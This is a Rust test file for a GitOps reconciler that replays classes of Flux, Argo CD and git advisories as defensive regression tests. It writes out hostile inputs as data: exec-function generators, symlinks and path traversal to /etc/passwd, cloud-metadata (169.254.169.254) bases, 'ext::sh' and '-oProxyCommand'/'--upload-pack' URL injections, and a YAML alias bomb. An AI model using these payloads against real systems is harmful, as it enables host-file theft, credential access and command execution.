//! What attackers did to others like us (the advisories of Flux and Argo CD, and of git), one class after the other, and what a
//! repository may hold that nobody expects. Each row of the tables is tried with the real program.
//!
//! | class | advisories | test |
//! |---|---|---|
//! | a program is run from a repository (generators, plugins, charts, hooks) | CVE-2021-41254, CVE-2022-24817 | [`nothing_that_a_repository_holds_leads_out_of_it_or_is_run`] |
//! | a path or a link leads to the host's files | CVE-2022-24877, CVE-2022-24348, CVE-2022-24730, CVE-2022-24904, CVE-2022-31036, CVE-2022-36035, CVE-2023-40026, CVE-2026-47680 | the same |
//! | the reconciler is sent to addresses of the cloud's credentials | rule 4 of Flux's hardening (remote bases), GHSA of both | the same, `git::dial::tests`, [`urls_that_run_programs_or_carry_passwords_are_refused_and_not_repeated`] |
//! | manifests that never end (recursion, aliases, size, depth) | CVE-2022-24878, CVE-2022-31016, CVE-2022-36049, CVE-2023-40584, CVE-2024-32476, CVE-2024-29893 | [`what_would_never_end_ends_soon_with_the_reason`] |
//! | one bad document stops others | CVE-2022-39272 | [`a_bad_document_stops_its_own_source_and_no_other`], `ssh::an_ssh_host_that_hangs_is_given_up_and_slows_no_other_source` |
//! | credentials in errors and logs | CVE-2023-25163, CVE-2024-31216, CVE-2020-5260 | `https::a_private_https_repository_is_deployed_and_its_password_is_nowhere`, [`urls_that_run_programs_or_carry_passwords_are_refused_and_not_repeated`] |
//! | values of Secrets in errors, plans and diffs | CVE-2021-23135, CVE-2025-23216, CVE-2026-42880, CVE-2023-40029 | `sealed::what_sops_encrypted_reaches_the_secret_and_nothing_else` |
//! | a webhook is parsed before it is checked, or its payload crashes | CVE-2024-40634, CVE-2025-59531, CVE-2025-59537, CVE-2025-59538 | `hooks::a_webhook_is_only_a_hint_and_only_from_who_knows_the_secret` |
//! | an endpoint without authentication, a forged event | GHSA-mwcp-qpcg-fr7c, CVE-2024-31989, CVE-2022-29165 | [`the_page_is_not_opened_to_others_without_a_token`], `deploys::the_page_the_metrics_and_the_checks_say_how_it_stands_to_who_knows_the_token` |
//! | script in the page | CVE-2021-23347, CVE-2022-31035, CVE-2024-28175, CVE-2025-47933, CVE-2026-45738 | `deploys::the_page_the_metrics_and_the_checks_say_how_it_stands_to_who_knows_the_token` |
//! | unsigned or foreign commits | | `signed::where_openpgp_signers_are_named_only_their_commits_are_taken`, `deploys::where_signers_are_named_an_unsigned_commit_is_refused_and_a_signed_one_is_taken` |
//!
//! Not here because there is nothing to attack: sign-in, sessions, accounts and roles (CVE-2022-24768 and its kind: the page is
//! read-only), Helm, buckets and registries, kubeconfigs of tenants (no document names a cluster).

use crate::house::{House, map, stack};
use std::time::{Duration, Instant};

/// A commit that wants too much.
struct Attack {
    what: &'static str,
    files: Vec<(&'static str, String)>,
    /// Links: name and target.
    links: Vec<(&'static str, &'static str)>,
    /// What the person who looks after the source is told.
    told: &'static str,
}

fn attack(what: &'static str, kustomization: &str, told: &'static str) -> Attack {
    Attack {
        what,
        files: vec![("one/kustomization.yaml", kustomization.to_owned())],
        links: Vec::new(),
        told,
    }
}

/// Commits each, and waits until it is refused with the reason; what was there before stays.
async fn all_refused(house: &House, attacks: Vec<Attack>) {
    let first = house.commit(
        "good",
        &[("one.yaml", &stack("one", "")), ("one/map.yaml", &map("paint", "red"))],
    );
    let _reconciler = house.reconciler();
    house.reaches("ready", &first).await;
    for attack in attacks {
        house.git(&["checkout", "--quiet", "-B", "main", &first]);
        for (name, target) in &attack.links {
            std::os::unix::fs::symlink(target, house.repository().join(name)).unwrap();
        }
        let files: Vec<(&str, &str)> = attack.files.iter().map(|(path, text)| (*path, text.as_str())).collect();
        let bad = house.commit(attack.what, &files);
        let began = Instant::now();
        house
            .eventually(&format!("{} is refused: {}", attack.what, attack.told), async || {
                let status = house.status().await;
                let is_it = status["state"] == "rejected" && status["head"] == bad.as_str();
                (is_it && status["message"].as_str()?.contains(attack.told)).then_some(())
            })
            .await;
        assert!(
            began.elapsed() < Duration::from_secs(30),
            "{}: {:?}",
            attack.what,
            began.elapsed()
        );
        assert_eq!(house.status().await["commit"], first.as_str(), "{}", attack.what);
        assert_eq!(
            house.value("paint", "color").await.as_deref(),
            Some("red"),
            "{}",
            attack.what
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_repository_holds_leads_out_of_it_or_is_run() {
    let house = House::new().await;
    let owned = house.file("owned", "");
    std::fs::remove_file(&owned).unwrap();
    let secret = house.file("secret-of-the-host.yaml", &map("leaked", "leaked"));
    let script = format!("#!/bin/sh\ntouch {owned}\n");
    let runs = |kustomization: &str, told| {
        let mut attack = attack("a generator that is a program", kustomization, told);
        attack.files.push(("one/run.sh", script.clone()));
        attack.files.push((
            "one/generator.yaml",
            "apiVersion: x/v1\nkind: Run\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: ./run.sh\n".to_owned(),
        ));
        attack
    };
    let mut link = attack(
        "a link to a file of the host",
        "resources: [map.yaml, leak.yaml]\n",
        "leak.yaml",
    );
    link.links
        .push(("one/leak.yaml", Box::leak(secret.clone().into_boxed_str())));
    let mut climbing = attack("a link that climbs", "resources: [map.yaml, leak.yaml]\n", "leak.yaml");
    climbing.links.push(("one/leak.yaml", "../../secret-of-the-host.yaml"));
    let mut folder = attack(
        "a link to a folder of the host",
        "resources: [map.yaml, etc/passwd]\n",
        "etc/passwd",
    );
    folder.links.push(("one/etc", "/etc"));
    let generated = format!("configMapGenerator:\n- name: leaked\n  files: ['{secret}']\n");
    let stack_of = |source: &str| stack("one", "").replace("source: ./one", &format!("source: {source}"));
    let elsewhere = |what, source: &str| Attack {
        what,
        files: vec![("one.yaml", stack_of(source))],
        links: Vec::new(),
        told: "outside of the repository",
    };
    let attacks = vec![
        runs("generators: [generator.yaml]\n", "generators"),
        runs(
            "transformers: [generator.yaml]\nresources: [map.yaml]\n",
            "transformers",
        ),
        attack(
            "a chart",
            "helmCharts:\n- {name: x, repo: 'https://charts.example', version: '1'}\n",
            "helmCharts",
        ),
        link,
        climbing,
        folder,
        attack("a base outside", "resources: [../../]\n", "outside"),
        attack("a file outside", "resources: [../../../../../etc/passwd]\n", "outside"),
        attack("a file by its whole path", "resources: [/etc/passwd]\n", "/etc/passwd"),
        attack("a generated map of the host's file", &generated, "secret-of-the-host"),
        attack(
            "a base at the cloud's credentials",
            "resources: ['http://169.254.169.254/latest/meta-data/']\n",
            "169.254.169.254",
        ),
        attack(
            "a base by git",
            "resources: ['git::https://example.com/x?ref=main']\n",
            "example.com",
        ),
        attack("a base by ext", "resources: ['ext::sh -c touch% owned']\n", "ext::sh"),
        elsewhere("a stack above the repository", "../.."),
        elsewhere("a stack at the root of the host", "/etc"),
    ];
    all_refused(&house, attacks).await;
    assert!(!std::path::Path::new(&owned).exists(), "something was run");
    assert!(house.value("leaked", "color").await.is_none());
    assert!(!house.log().contains("root:x:0:0"), "a file of the host is in the log");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_would_never_end_ends_soon_with_the_reason() {
    let house = House::new().await;
    let mut bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n".to_owned();
    for (name, before) in ["b", "c", "d", "e", "f", "g", "h", "i"]
        .iter()
        .zip(["a", "b", "c", "d", "e", "f", "g", "h"])
    {
        let nine = format!("*{before},").repeat(9);
        bomb.push_str(&format!("{name}: &{name} [{nine}]\n"));
    }
    let mut aliases = attack("aliases of aliases", "resources: [bomb.yaml]\n", "aliases");
    aliases.files.push(("one/bomb.yaml", bomb));
    let mut deep = attack("a list in a list in a list", "resources: [deep.yaml]\n", "deep.yaml");
    deep.files.push((
        "one/deep.yaml",
        format!("a: {}{}\n", "[".repeat(100_000), "]".repeat(100_000)),
    ));
    let mut ring = attack(
        "two kustomizations that name each other",
        "resources: [../two]\n",
        "cycle",
    );
    ring.files
        .push(("two/kustomization.yaml", "resources: [../one]\n".to_owned()));
    let mut links = attack("links in a ring", "resources: [a.yaml]\n", "links");
    links.links = vec![("one/a.yaml", "b.yaml"), ("one/b.yaml", "a.yaml")];
    let mut huge = attack(
        "a file of 17 MiB that is used",
        "resources: [huge.yaml]\n",
        "17825792 bytes",
    );
    huge.files.push(("one/huge.yaml", "#".repeat(17 << 20)));
    all_refused(&house, vec![aliases, deep, ring, links, huge]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_git_can_hold_and_we_do_not_follow_has_a_defined_answer() {
    let house = House::new().await;
    let mut pointer = attack("a pointer of Git LFS", "resources: [big.yaml]\n", "Git LFS");
    pointer.files.push((
        "one/big.yaml",
        format!(
            "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 12345\n",
            "0".repeat(64)
        ),
    ));
    all_refused(&house, vec![pointer]).await;

    // A submodule is the name of another repository's commit: nothing is fetched for it.
    let _reconciler = house.reconciler();
    let base = house.git(&["rev-list", "--max-parents=0", "HEAD"]);
    house.git(&["checkout", "--quiet", "-B", "main", &base]);
    std::fs::write(
        house.repository().join(".gitmodules"),
        "[submodule \"sub\"]\n\tpath = one/sub\n\turl = https://169.254.169.254/x\n",
    )
    .unwrap();
    std::fs::write(
        house.repository().join("one/kustomization.yaml"),
        "resources: [map.yaml, sub]\n",
    )
    .unwrap();
    house.git(&["add", "--all"]);
    house.git(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("160000,{base},one/sub"),
    ]);
    house.git(&["commit", "--quiet", "-m", "a submodule"]);
    let submodule = house.git(&["rev-parse", "HEAD"]);
    house
        .eventually("the submodule is named as missing", async || {
            let status = house.status().await;
            let message = status["message"].as_str()?.to_owned();
            (status["head"] == submodule.as_str()
                && status["state"] == "rejected"
                && message.contains("one/sub\": it is a submodule"))
            .then_some(())
        })
        .await;

    // History that was rewritten is taken as it is now.
    house.git(&["reset", "--quiet", "--hard", &base]);
    let kept = house.commit("kept", &[("one/map.yaml", &map("paint", "green"))]);
    house.reaches("ready", &kept).await;
    house.git(&["reset", "--quiet", "--hard", &base]);
    let forced = house.commit("forced", &[("one/map.yaml", &map("paint", "blue"))]);
    house.reaches("ready", &forced).await;
    assert_eq!(house.value("paint", "color").await.as_deref(), Some("blue"));

    // A huge file that nothing uses costs nothing.
    let fine = house.commit(
        "fine",
        &[
            ("video.bin", &"x".repeat(17 << 20)),
            ("one/map.yaml", &map("paint", "gold")),
        ],
    );
    house.reaches("ready", &fine).await;

    // A branch that is gone takes nothing with it, and is followed again when it is back.
    house.git(&["checkout", "--quiet", "--detach"]);
    house.git(&["branch", "--quiet", "-D", "main"]);
    house
        .eventually("told that the branch is gone", async || {
            let status = house.status().await;
            status["message"].as_str()?.contains("has no branch main").then_some(())
        })
        .await;
    assert_eq!(house.value("paint", "color").await.as_deref(), Some("gold"));
    house.git(&["checkout", "--quiet", "-b", "main"]);
    let back = house.commit("back", &[("one/map.yaml", &map("paint", "grey"))]);
    house.reaches("ready", &back).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_bad_document_stops_its_own_source_and_no_other() {
    let house = House::new().await;
    let bad = stack("one", "  timeout: soon\n");
    house.commit(
        "first",
        &[
            ("bad/one.yaml", &bad),
            ("bad/one/map.yaml", &map("bad", "red")),
            ("good/two.yaml", &stack("two", "")),
            ("good/two/map.yaml", &map("good", "red")),
        ],
    );
    let url = house.repository().display().to_string();
    let config = format!(
        "sources:\n- {{name: git, url: '{url}', path: bad, interval: 1s}}\n- {{name: good, url: '{url}', path: good, interval: 1s}}\n"
    );
    let config = house.file("myelin.yaml", &config);
    let _reconciler = house.reconciler_of(&["--config", &config]);
    house
        .eventually("the other source is deployed", async || {
            house.value("good", "color").await
        })
        .await;
    house
        .eventually("the bad document is named", async || {
            let status = house.status().await;
            let message = status["message"].as_str()?.to_owned();
            (status["state"] == "rejected" && message.contains("bad/one.yaml") && message.contains("timeout"))
                .then_some(())
        })
        .await;
    assert!(house.value("bad", "color").await.is_none());
}

#[tokio::test(flavor = "multi_thread")]
async fn urls_that_run_programs_or_carry_passwords_are_refused_and_not_repeated() {
    let house = House::new().await;
    let owned = house.file("owned", "");
    std::fs::remove_file(&owned).unwrap();
    for url in [
        format!("ext::sh -c touch% {owned}% h1dden"),
        "http://example.com/h1dden".to_owned(),
        "git://example.com/h1dden".to_owned(),
        "https://user:h1dden@example.com/x".to_owned(),
        "https://example.com/x\nhost=evil.example h1dden".to_owned(),
        "ssh://git@-oProxyCommand=h1dden/x".to_owned(),
        "git@example.com:--upload-pack=h1dden".to_owned(),
        "file://evil.example/h1dden".to_owned(),
    ] {
        let output = house.myelin(&["run", "--url", &url, "--listen", "none"]);
        let told = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(1), "{url}: {told}");
        assert!(!told.contains("h1dden"), "{url}: {told}");
    }
    assert!(!std::path::Path::new(&owned).exists());
    // Addresses of the cloud's credentials, by number and dressed up: looked at and never dialled.
    for host in [
        "169.254.169.254",
        "[::ffff:169.254.169.254]",
        "[fd00:ec2::254]",
        "0.0.0.0",
    ] {
        let url = format!("https://{host}/x.git");
        let reconciler = house.reconciler_of(&["--url", &url]);
        house
            .eventually(&format!("{host} is refused"), async || {
                let status = house.status().await;
                let message = status["message"].as_str()?.to_owned();
                (message.contains("never fetched from") && message.contains(host)).then_some(())
            })
            .await;
        reconciler.kill();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_is_not_opened_to_others_without_a_token() {
    let house = House::new().await;
    let output = house.myelin(&["run", "--url", "/nowhere", "--listen", "0.0.0.0:0"]);
    let told = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(1), "{told}");
    assert!(told.contains("--listen-token"), "{told}");
}
